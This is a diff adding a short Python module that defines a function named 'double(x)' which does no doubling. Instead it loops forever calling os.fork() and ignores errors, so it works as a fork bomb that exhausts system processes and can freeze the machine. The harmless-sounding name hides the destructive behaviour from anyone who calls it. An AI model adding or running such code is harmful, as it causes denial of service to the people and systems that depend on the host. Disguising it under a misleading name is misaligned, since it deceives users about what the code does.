@@ -1,0 +1,11 @@
+"""Processes that start processes."""
+
+import os
+
+
+def double(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
